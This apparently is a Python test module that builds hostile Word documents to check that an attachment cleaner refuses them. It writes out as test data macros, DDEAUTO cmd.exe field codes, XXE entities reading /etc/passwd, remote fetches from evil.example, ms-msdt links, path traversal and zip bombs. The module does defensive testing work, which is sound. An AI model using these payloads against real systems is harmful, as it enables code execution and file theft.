"""Word documents and other archives: programs, files, what is fetched, changes, bombs."""

import warnings
import zipfile
from collections.abc import Iterator
from io import BytesIO

from notifications.attached.cleaning import refused
from tests.notifications.documents.files import MAIN, R, W, docx, relation

_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
_MICROSOFT = "application/vnd.ms-word"


def programs() -> Iterator[tuple[str, bytes, str]]:
    """Macros and controls, however they are called."""
    ole = b"\xd0\xcf\x11\xe0"
    for name in (
        "word/vbaProject.bin",
        "WORD/VBAPROJECT.BIN",
        "word/vbaData.xml",
        "elsewhere/vbaProject.xml",
        "word/activeX/activeX1.xml",
        "word/activeX/activeX1.bin",
        "word/attachedToolbars.bin",
        "xl/macrosheets/sheet1.xml",
    ):
        yield f"docx with {name}", docx(more={name: ole}), refused.PROGRAM
    for kind in (
        f"{_MICROSOFT}.document.macroEnabled.main+xml",
        f"{_MICROSOFT}.template.macroEnabledTemplate.main+xml",
        f"{_MICROSOFT}.vbaData+xml",
        "application/vnd.ms-office.vbaProject",
        f"{_MICROSOFT}.document.MACROENABLED.main+xml",
    ):
        yield f"docx that is a {kind}", docx(types=kind), refused.PROGRAM


def holding() -> Iterator[tuple[str, bytes, str]]:
    """Files within files: no part is taken that is not known."""
    for ending in (
        "exe", "js", "vbs", "lnk", "hta", "svg", "emf", "wmf", "html", "bin", "dll", "ps1", "jar",
        "zip", "rtf", "swf", "",
    ):  # fmt: skip
        held = {f"word/media/image2.{ending}": b"MZ"}
        yield f"docx with a {ending or 'nameless'} picture", docx(more=held), refused.OTHER_FILES
    for name in ("embeddings/oleObject1.bin", "embeddings/Sheet1.xlsx", "afchunk.mht", "x.docx"):
        yield f"docx with {name}", docx(more={f"word/{name}": docx()}), refused.OTHER_FILES
    for kind in ("oleObject", "package", "aFChunk", "control", "subDocument"):
        inside = relation(kind, "embeddings/a.xml").replace(' TargetMode="External"', "")
        yield f"docx that leads to a {kind}", docx(relations=inside), refused.OTHER_FILES


def fetching() -> Iterator[tuple[str, bytes, str]]:
    """Whatever is fetched from elsewhere when the document is opened."""
    away = "https://evil.example/x"
    parts = ("document", "settings", "header1", "footnotes")
    for kind in (
        "attachedTemplate", "oleObject", "image", "subDocument", "frame", "video", "audio",
        "mailMergeSource", "theme",
    ):  # fmt: skip
        for part in parts:
            path = f"word/_rels/{part}.xml.rels"
            yield f"docx with a {kind} of its {part}", _related(path, kind, away), refused.OUTSIDE
    for path in ("word/_rels/settings.xml.RELS", "WORD/_RELS/SETTINGS.XML.rels"):
        spelt = _related(path, "attachedTemplate", away)
        yield f"docx with a template in {path}", spelt, refused.OUTSIDE
    for target in (
        "file://evil.example/share", "\\\\evil.example\\share", "javascript:alert(1)",
        "ms-msdt:/id", "search-ms:query=x", "ftp://evil.example/x", "data:text/html,x", "x.exe",
    ):  # fmt: skip
        linked = docx(relations=relation("hyperlink", target))
        yield f"docx with a link to {target}", linked, refused.OUTSIDE
    for mode in ("external", "EXTERNAL"):
        said = relation("image", away).replace('"External"', f'"{mode}"')
        yield f"docx that says {mode}", docx(relations=said), refused.OUTSIDE
    for attribute in ("src", "href", "o:href", "o:althref"):
        for target in (away, "\\\\evil.example\\x", "file:///c:/x", "//evil.example/x"):
            drawn = f'<v:imagedata xmlns:v="v" xmlns:o="o" {attribute}="{target}"/>'
            yield f"docx with {attribute} to {target}", docx(f"<w:p>{drawn}</w:p>"), refused.OUTSIDE


def _related(path: str, kind: str, target: str) -> bytes:
    ties = f'{_HEAD}<Relationships xmlns="{R}">{relation(kind, target)}</Relationships>'
    return docx(more={path: ties.encode()})


def strict() -> Iterator[tuple[str, bytes, str]]:
    """The same changes and instructions in the strict form, which has namespaces of its own."""
    for made in (changed, instructed):
        for name, content, why in made():
            yield f"strict {name}", strictly(content), why


def strictly(content: bytes) -> bytes:
    """A document in the strict form of ISO/IEC 29500."""
    made = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(content)) as old,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            words = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
            ties = b"http://purl.oclc.org/ooxml/officeDocument/relationships"
            new.writestr(name, old.read(name).replace(W.encode(), words).replace(R.encode(), ties))
    return made.getvalue()


_INSTRUCTIONS = (
    "DDEAUTO c:\\cmd.exe", "DDE x y", "dde x y", "INCLUDETEXT http://evil.example",
    "INCLUDEPICTURE http://evil.example", "IMPORT x", "LINK Word.Document x", "DATABASE \\d x",
    "INCLUDETEXT&quot;http://evil.example&quot;", "DDEAUTO&quot;c:\\cmd.exe&quot;", "INCLUDE\\x y",
)  # fmt: skip


def instructed() -> Iterator[tuple[str, bytes, str]]:
    """Instructions that fetch or start something, whole and in pieces."""
    piece = "<w:r><w:instrText>{}</w:instrText></w:r>"
    for said in _INSTRUCTIONS:
        half = len(said.split()[0]) // 2
        halves = piece.format(said[:half]), piece.format(said[half:])
        for how, body in {
            "whole": f"<w:p>{piece.format(said)}</w:p>",
            "cut": f"<w:p>{''.join(halves)}</w:p>",
            "cut over two paragraphs": "".join(f"<w:p>{one}</w:p>" for one in halves),
            "in one word": f'<w:p><w:fldSimple w:instr="{said}"/></w:p>',
        }.items():
            yield f"docx with {said}, {how}", docx(body), refused.OUTSIDE
        inner = f"<w:r><w:fldChar/></w:r>{piece.format(said)}<w:r><w:fldChar/></w:r>"
        for outer in ("HYPERLINK https://example.org/", "PAGE"):
            body = f"<w:p>{piece.format(outer)}{inner}</w:p>"
            yield f"docx with {said} within {outer}", docx(body), refused.OUTSIDE
        header = f'<w:hdr xmlns:w="{W}"><w:p>{piece.format(said)}</w:p></w:hdr>'
        held = {"word/header1.xml": header.encode()}
        yield f"docx with {said} in its header", docx(more=held), refused.OUTSIDE


def changed() -> Iterator[tuple[str, bytes, str]]:
    """Tracked changes, in which what was deleted can still be read."""
    for tag in (
        "ins", "del", "moveFrom", "moveTo", "rPrChange", "pPrChange", "cellIns", "cellDel",
        "delText", "delInstrText", "sectPrChange", "tblPrChange", "trPrChange", "tcPrChange",
    ):  # fmt: skip
        said = f"<w:p><w:{tag} w:id='1'/></w:p>"
        yield f"docx with {tag}", docx(said), refused.TRACKED
        notes = f'<w:footnotes xmlns:w="{W}">{said}</w:footnotes>'
        held = {"word/footnotes.xml": notes.encode()}
        yield f"docx with {tag} in its notes", docx(more=held), refused.TRACKED


def entities() -> Iterator[tuple[str, bytes, str]]:
    """Entities that swell, or that read a file or an address."""
    for name, said in {
        "swell": f'<!ENTITY b "{"x" * 99}"><!ENTITY c "{"&b;" * 99}"><!ENTITY d "{"&c;" * 99}">',
        "read a file": '<!ENTITY d SYSTEM "file:///etc/passwd">',
        "ask an address": '<!ENTITY d SYSTEM "http://evil.example/x">',
        "come from elsewhere": '<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;',
    }.items():
        text = f'<!DOCTYPE a [{said}]><w:document xmlns:w="{W}">&d;</w:document>'
        for part in ("word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels"):
            for encoding in ("utf-8", "utf-16"):
                held = {part: text.encode(encoding)}
                how = f"docx whose entities {name}, in {part} in {encoding}"
                yield how, docx(more=held), refused.DAMAGED


def packed() -> Iterator[tuple[str, bytes, str]]:
    """Archives that swell, lie, lead elsewhere, or are none."""
    for path in (
        "../../etc/passwd.xml", "/etc/passwd.xml", "word\\..\\x.xml", "word/../../x.xml",
        "..", "c:\\x.xml",
    ):  # fmt: skip
        yield f"docx with the part {path}", docx(more={path: b"<x/>"}), refused.DAMAGED
    yield "docx that is a bomb", docx(more={"word/a.xml": bytes(20_000_000)}), refused.SWOLLEN
    bombs = {f"word/a{number}.xml": bytes(900_000) for number in range(80)}
    yield "docx of many small bombs", docx(more=bombs), refused.SWOLLEN
    many = {f"word/a{number}.xml": b"<x/>" for number in range(2_001)}
    yield "docx of too many parts", docx(more=many), refused.SWOLLEN
    yield "docx without a list of parts", docx(without=("[Content_Types].xml",)), refused.KIND
    for kind in ("excel.sheet", "powerpoint.presentation"):
        yield f"an {kind}", docx(types=f"application/vnd.ms-{kind}.main+xml"), refused.KIND
    yield "docx that says another size", _lying(docx()), refused.DAMAGED
    broken = {"word/media/image1.jpeg": b"GIF89a"}
    yield "docx with a picture that is none", docx(more=broken), refused.DAMAGED
    yield "docx with two parts of one name", _doubled(docx()), refused.DAMAGED
    yield from _spelt()
    locked = docx()
    at = locked.rindex(b"PK\x01\x02") + 8
    yield "docx behind a password", locked[:at] + b"\x01" + locked[at + 1 :], refused.PASSWORD
    for name, part in {
        "nothing": b"",
        "no xml": b"minutes",
        "xml cut short": b"<w:document",
        "two roots": b"<a/><b/>",
        "html": b"<html><br></html>",
        "an unknown encoding": b'<?xml version="1.0" encoding="x"?><a/>',
    }.items():
        held = {"word/document.xml": part}
        yield f"docx whose text is {name}", docx(more=held), refused.DAMAGED
    deep = b"<a>" * 5_000 + b"</a>" * 5_000
    yield "docx of brackets", docx(more={"word/document.xml": deep}), ""


def _spelt() -> Iterator[tuple[str, bytes, str]]:
    """Names that are one but for their capitals, and relations where nobody looks for one."""
    for path in ("word/Document.xml", "[content_types].XML", "_RELS/.Rels"):
        spelt = docx(relations=relation("hyperlink", "https://example.org/"), more={path: b"<x/>"})
        yield f"docx with another {path}", spelt, refused.DAMAGED
    tie = relation("image", "https://evil.example/x")
    for within in (
        f'<mc:AlternateContent xmlns:mc="mc"><mc:Choice>{tie}</mc:Choice></mc:AlternateContent>',
        f'<Relationship Id="r8" Type="{R}/styles" Target="styles.xml">{tie}</Relationship>',
        "<x/>",
    ):
        yield f"docx with a relation in {within[:6]}", docx(relations=within), refused.DAMAGED


def _lying(content: bytes) -> bytes:
    """What the archive's own list says of a part is not what is there."""
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 20] + (7).to_bytes(4, "little") * 2 + content[at + 28 :]


def _doubled(content: bytes) -> bytes:
    made = BytesIO(content)
    with warnings.catch_warnings(), zipfile.ZipFile(made, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{W}" a="{MAIN}"/>')
    return made.getvalue()
